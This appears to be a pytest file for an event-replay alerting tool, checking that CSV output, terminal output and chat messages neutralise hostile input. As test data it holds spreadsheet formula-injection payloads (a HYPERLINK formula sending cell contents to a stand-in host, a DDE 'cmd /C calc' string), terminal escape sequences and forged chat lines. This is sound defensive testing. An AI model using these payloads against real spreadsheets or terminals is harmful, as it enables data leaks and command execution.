"""Texts that are made to harm: formulas for spreadsheets, controls for terminals, prose about people, forged lines."""

from __future__ import annotations

import csv
import json
import re
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from schemas.events import CLOSED_WORDS
from schemas.fields import CODE_PATTERN
from schemas.subscriptions import Subscription
from streams.cli import run
from streams.core.event import Event
from streams.core.history import History
from streams.core.notices import message_of
from streams.errors import InputError
from streams.wire.decoder import Decoder
from streams.wire.plain_events import PlainEvents
from streams.workbook import neutral
from tests.notify.alerts import alert
from tests.stories import FEE_RULES, decoded, judge, shipped, us

FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "＝1+1")
PLANTED = "某人 13000000000"
CONTROLS = ("\x1b]0;x\x07\x1b[2J", "a\nb", "a\r", "\x00", "\x7f", "\x85", "\u2028", "\u2029", "\t")


def started(order: str, **fields: Any) -> dict[str, Any]:
    event = {"event_id": f"e-{order}", "event_type": "counter.service_started", "order_id": order, "business": "fee"}
    return {**event, "occurred_at": "2026-03-02T09:00:00+08:00", **fields}


def written(path: Path, *events: dict[str, Any]) -> str:
    path.write_text("".join(json.dumps(event) + "\n" for event in events), "utf-8")
    return str(path)


def rulebooks(folder: Path) -> list[str]:
    """The options that compare five minutes with ten days."""
    for name, limit in (("now", "5 min"), ("then", "240 h")):
        (folder / name).mkdir()
        (folder / name / "rule.yaml").write_text(FEE_RULES.replace("LIMIT", limit), "utf-8")
    return ["--only", str(folder / "now"), "--compare-only", str(folder / "then")]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, text: str) -> None:
    org = dict.fromkeys(("province", "city", "county", "unit"), text)
    events = written(tmp_path / "events.jsonl", started(text, org=org, account_id=text))
    until = "--until=2026-03-03T00:00:00+08:00"
    files = {kind: tmp_path / f"{kind}.csv" for kind in ("alerts", "cases", "comparison")}
    options = [f"--{kind}={path}" for kind, path in files.items()]
    assert run(["replay", events, until, *rulebooks(tmp_path), *options]) == 0
    for path in files.values():
        with path.open(encoding="utf-8-sig", newline="") as source:
            rows = list(csv.DictReader(source))
        assert rows
        for row in rows:
            assert row["subject.id"] == f"'{text}"
            assert [value for value in row.values() if value[:1] in "=+-@＝" and value] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_other_formats_hold_the_text_as_it_is(tmp_path: Path, text: str) -> None:
    import polars as pl

    events = written(tmp_path / "events.jsonl", started(text))
    lines, table = tmp_path / "alerts.jsonl", tmp_path / "cases.parquet"
    until = "--until=2026-03-03T00:00:00+08:00"
    assert run(["replay", events, until, "--alerts", str(lines), "--cases", str(table)]) == 0
    assert {json.loads(line)["data"]["subject"]["id"] for line in lines.read_text("utf-8").splitlines()} == {text}
    assert set(pl.read_parquet(table)["subject.id"]) == {text}


@pytest.mark.parametrize("value", ["plain", "a=1", "1-2", "", None, 5, -5, True, 1.5])
def test_a_harmless_cell_stays(value: object) -> None:
    assert neutral(value) is value


@pytest.mark.parametrize("text", CONTROLS)
@pytest.mark.parametrize("field", ["order_id", "event_id", "business", "source", "org.city", "document", "staff_id"])
def test_ids_and_codes_take_no_control_characters(field: str, text: str) -> None:
    event = started("WO1")
    if field == "document":
        event |= {"event_type": "application.document_requested", field: text}
    elif field == "org.city":
        event["org"] = {"city": text}
    else:
        event[field] = text
    for decode in (Decoder(shipped().catalogue).decode, Decoder(shipped().catalogue).decode_by_model):
        with pytest.raises(InputError) as refused:
            decode(json.dumps(event).encode(), received=us("2026-03-02T12:00"))
        assert refused.value.reason == "bad_field"


def test_what_the_fast_check_takes_the_model_takes() -> None:
    plain = PlainEvents(shipped().catalogue)
    for code in range(0x3000):
        text = f"a{chr(code)}b"
        if plain.read(started("WO1", source=text), us("2027-01-01T00:00")) is not None:
            assert re.fullmatch(CODE_PATTERN, text), hex(code)


def test_the_terminal_shows_no_control_of_a_comparison(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    turning = "WO\u202e1"
    events = written(tmp_path / "events.jsonl", started(turning, org={"city": turning}), started("x\x1b[2J"))
    code = run(["replay", events, "--until=2026-03-03T00:00:00+08:00", *rulebooks(tmp_path)])
    said = capfd.readouterr()
    assert code == 3, said.err
    assert [line for line in said.err.splitlines() if not line.isprintable()] == []


# --- sentences ------------------------------------------------------------------------------------------


def asked(document: str) -> list[dict[str, Any]]:
    event = {"event_type": "application.document_requested", "order_id": "WO2", "document": document}
    return [
        {**event, "event_id": f"d{number}", "occurred_at": f"2026-03-02T09:1{number}:00+08:00"} for number in range(2)
    ]


def sentences(document: str) -> list[str]:
    alerts = judge(asked(document), "2026-03-09T00:00").alerts
    found = [alert for alert in alerts if alert.rule == "documents-asked-once"]
    assert found
    return [text for alert in found for text in (alert.explanation.zh, alert.explanation.en, str(alert.arithmetic))]


def test_prose_about_a_person_enters_no_sentence() -> None:
    assert [text for text in sentences(PLANTED) if "某人" in text or "13000000000" in text] == []


def test_a_sentence_names_what_a_closed_list_has_and_tells_others_apart() -> None:
    assert "（id_card）" in sentences("id_card")[0]
    first, second = sentences("their passport")[0], sentences("another paper")[0]
    assert "#" in first
    assert first != second
    assert sentences("their passport")[0] == first


def test_the_closed_list_is_of_codes() -> None:
    assert {"id_card", "title_deed", "customer", "ordinary"} <= CLOSED_WORDS
    assert all(word.isascii() and word.isidentifier() for word in CLOSED_WORDS)


def test_an_alert_that_0_1_wrote_forges_no_second_line_in_a_chat() -> None:
    event = alert("b1")["data"]
    event["explanation"] = {"zh": "第2次（某人\n【超时】WO9 \x1b[31m）\u2028", "en": "number 2\r\n[Breach] WO9 \u202e"}
    for template in (None, "{kind}\n{explanation}"):  # a template may have lines of its own
        both = Subscription.model_validate(
            {"name": "all", "channels": "team", "language": "both", **({"template": template} if template else {})}
        )
        _, text = message_of([event], both)
        lines = text.split("\n")
        assert len(lines) == (2 if template is None else 4)
        assert all(line.isprintable() for line in lines)


# --- org ------------------------------------------------------------------------------------------------


def test_unknown_members_of_org_are_not_kept() -> None:
    known = {"province": "32", "city": "3201"}
    for more in ({"x": "y" * 250_000}, {"name": PLANTED}, {"x": ["y"]}, {"a": "1", "b": "2", "c": "3", "d": "4"}):
        raw = json.dumps(started("WO1", org={**more, **known})).encode()
        for decode in (Decoder(shipped().catalogue).decode, Decoder(shipped().catalogue).decode_by_model):
            assert decode(raw, received=us("2026-03-02T12:00")).data["org"] == known


def test_blocks_of_org_are_kept_within_some_megabytes() -> None:
    plain = PlainEvents(shipped().catalogue)
    tracemalloc.start()
    try:
        for number in range(5_000):
            org = {"city": f"{number}", "unit": "中" * 100, "extra": "y" * 10_000}
            event = plain.read(started(f"WO{number}", org=org), us("2027-01-01T00:00"))
            assert event is None or event.data["org"].keys() == {"city", "unit"}
            many = {"city": f"{number}", **{f"extra{part}": "y" * 500 for part in range(9)}}
            event = plain.read(started(f"WO{number}", org=many), us("2027-01-01T00:00"))
            assert event is not None
            assert event.data["org"] == {"city": str(number)}
        kept, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert kept < 10_000_000


def test_a_repetition_of_an_event_kept_by_0_1_is_no_conflict() -> None:
    (new,) = decoded([started("WO1", org={"city": "3201"})])

    def kept(org: dict[str, str]) -> History:
        old = Event(new.event_id, new.type, new.at, new.recorded, {**new.data, "org": org}, new.order_id)
        return History([old])

    assert kept({"city": "3201", "name": "N"}).add(new) == "duplicate"
    assert kept({"city": "3205", "name": "N"}).add(new) == "conflict"
